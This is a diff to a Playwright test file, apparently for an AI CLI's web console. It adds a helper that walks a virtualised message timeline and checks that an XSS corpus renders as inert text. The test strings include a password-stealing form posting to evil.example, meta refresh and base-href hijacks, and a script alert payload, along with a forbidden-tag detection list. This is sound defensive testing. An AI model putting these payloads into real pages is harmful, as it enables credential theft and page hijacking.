@@ -106,6 +106,74 @@ async function watchMessages(page: Page): Promise<void> {
   `);
 }
 
+interface TimelineWalk {
+  assistantMessages: number;
+  assistantText: string[];
+  userText: string[];
+  toolText: string[];
+  problems: string[];
+  fixed: number;
+  forbidden: string[];
+  imagePlaceholders: string[];
+}
+
+/**
+ * Scrolls the console's timeline from top to bottom a screen at a time and, for every row once (by its key), runs the
+ * markup invariants on assistant messages, counts fixed or sticky elements and collects texts; ends at the bottom.
+ */
+async function walkTimeline(page: Page): Promise<TimelineWalk> {
+  return page.evaluate(async () => {
+    const list = document.querySelector('[data-testid="timeline"]')!;
+    let scroller: HTMLElement | null = list.parentElement;
+    while (scroller && !/(auto|scroll)/.test(getComputedStyle(scroller).overflowY)) scroller = scroller.parentElement;
+    const box = scroller ?? document.scrollingElement!;
+    const frame = () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
+    const unsafe = (window as unknown as { __unsafeMarkup: (root: Element) => string[] }).__unsafeMarkup;
+    const seen = new Set<string>();
+    const walk: TimelineWalk = {
+      assistantMessages: 0,
+      assistantText: [],
+      userText: [],
+      toolText: [],
+      problems: [],
+      fixed: 0,
+      forbidden: [],
+      imagePlaceholders: [],
+    };
+    const visit = () => {
+      for (const row of list.querySelectorAll<HTMLElement>(':scope > li[data-key]')) {
+        const key = row.dataset.key!;
+        if (seen.has(key)) continue;
+        seen.add(key);
+        for (const el of row.querySelectorAll('[data-testid="assistant-message"]')) {
+          walk.assistantMessages += 1;
+          walk.assistantText.push(el.textContent ?? '');
+          walk.problems.push(...unsafe(el));
+          walk.fixed += [el, ...el.querySelectorAll('*')].filter((e) => ['fixed', 'sticky'].includes(getComputedStyle(e).position)).length;
+        }
+        for (const el of row.querySelectorAll('[data-testid="user-message"]')) walk.userText.push(el.textContent ?? '');
+        for (const el of row.querySelectorAll('[data-testid="tool-card"]')) walk.toolText.push(el.textContent ?? '');
+        for (const el of row.querySelectorAll('img, svg, iframe, object, embed, form, script, style, meta, base, link, select'))
+          walk.forbidden.push(el.outerHTML.slice(0, 200));
+        for (const el of row.querySelectorAll('button')) {
+          const text = el.textContent?.trim() ?? '';
+          if (text.startsWith('Load image from')) walk.imagePlaceholders.push(text);
+        }
+      }
+    };
+    box.scrollTop = 0;
+    await frame();
+    for (let step = 0; step < 2000; step += 1) {
+      visit();
+      if (box.scrollTop + box.clientHeight >= box.scrollHeight - 1) break;
+      box.scrollTop += Math.max(100, Math.floor(box.clientHeight * 0.7));
+      await frame();
+    }
+    visit();
+    return walk;
+  });
+}
+
 const clis: CliRun[] = [];
 // Playwright needs the destructuring pattern even when a hook uses no fixture.
 // eslint-disable-next-line no-empty-pattern
@@ -150,36 +218,29 @@ test('the XSS corpus from a real CLI renders inert, and nothing leaves 127.0.0.1
     await remote.send(HOSTILE_PROMPT);
     const answers = page.getByTestId('assistant-message');
     await expect(answers.last()).toContainText('Corpus done', { timeout: 90_000 });
-    await expect(answers).toHaveCount(messages);
     await expect(answers.last()).toHaveAttribute('data-streaming', 'false');
     // The turn is over (a completed turn shows no marker; the interrupt button goes).
     await expect(page.getByTestId('interrupt')).toHaveCount(0, { timeout: 15_000 });
 
-    // The final DOM of every message holds the invariants, and the raw HTML shows as text.
-    const problems = await answers.evaluateAll((els) =>
-      els.flatMap((el) => (window as unknown as { __unsafeMarkup: (root: Element) => string[] }).__unsafeMarkup(el)),
-    );
-    expect(problems).toEqual([]);
+    // The timeline renders only the rows near the screen: walk it from the top and check every row's final DOM.
+    const walk = await walkTimeline(page);
+    expect(walk.assistantMessages).toBe(messages);
+    expect(walk.problems).toEqual([]);
+    // Nothing from a message is laid over the page.
+    expect(walk.fixed).toBe(0);
     for (const shown of [
       '<form action="https://evil.example/steal"><input name=password type=password>',
       '<meta http-equiv="refresh"',
       '<base href="https://evil.example/">',
     ]) {
-      await expect(answers.filter({ hasText: shown }).first()).toBeVisible();
+      expect(walk.assistantText.some((text) => text.includes(shown))).toBe(true);
     }
-    // Nothing from a message is laid over the page.
-    const fixed = await answers.evaluateAll(
-      (els) =>
-        els.flatMap((el) => [el, ...el.querySelectorAll('*')]).filter((el) => ['fixed', 'sticky'].includes(getComputedStyle(el).position))
-          .length,
-    );
-    expect(fixed).toBe(0);
-
     // The user's own text, tool names and file paths are React text too.
-    await expect(remote.timeline.getByTestId('user-message').first()).toContainText(HOSTILE_PROMPT);
-    await expect(page.getByTestId('tool-card').filter({ hasText: HOSTILE_TOOL })).toHaveCount(1);
-    await expect(page.getByTestId('tool-card').filter({ hasText: HOSTILE_PATH })).toHaveCount(1);
-    await expect(remote.timeline.locator('img, svg, iframe, object, embed, form, script, style, meta, base, link, select')).toHaveCount(0);
+    expect(walk.userText[0]).toContain(HOSTILE_PROMPT);
+    expect(walk.toolText.filter((text) => text.includes(HOSTILE_TOOL))).toHaveLength(1);
+    expect(walk.toolText.filter((text) => text.includes(HOSTILE_PATH))).toHaveLength(1);
+    // No element a payload could have smuggled in, in any row (the last message's image is still a placeholder).
+    expect(walk.forbidden).toEqual([]);
     await expect(page.locator('base, meta[http-equiv], iframe, object, embed')).toHaveCount(0);
 
     // Benign markdown still renders: heading, list, link, highlighted code; and an image loads once asked for.
@@ -189,9 +250,8 @@ test('the XSS corpus from a real CLI renders inert, and nothing leaves 127.0.0.1
     await expect(last.getByRole('link', { name: 'the docs' })).toHaveAttribute('rel', 'noopener noreferrer');
     await expect(last.locator('pre')).toHaveAttribute('data-highlighted', 'true', { timeout: 15_000 });
     await expect(last.locator('pre')).toContainText('"<script>alert(1)</script>"');
-    const placeholder = answers.getByRole('button', { name: 'Load image from evil.example' }).first();
-    await placeholder.scrollIntoViewIfNeeded();
-    await expect(placeholder).toBeVisible();
+    // Foreign images wait behind a placeholder (seen in the walk, whichever row they are in).
+    expect(walk.imagePlaceholders).toContain('Load image from evil.example');
     await saveRemoteScreenshot(page, 'xss-corpus-text-desktop-en');
     await last.getByRole('button', { name: /^Load image from 127\.0\.0\.1:\d+$/ }).click();
     await expect(last.locator('img')).toHaveJSProperty('complete', true);
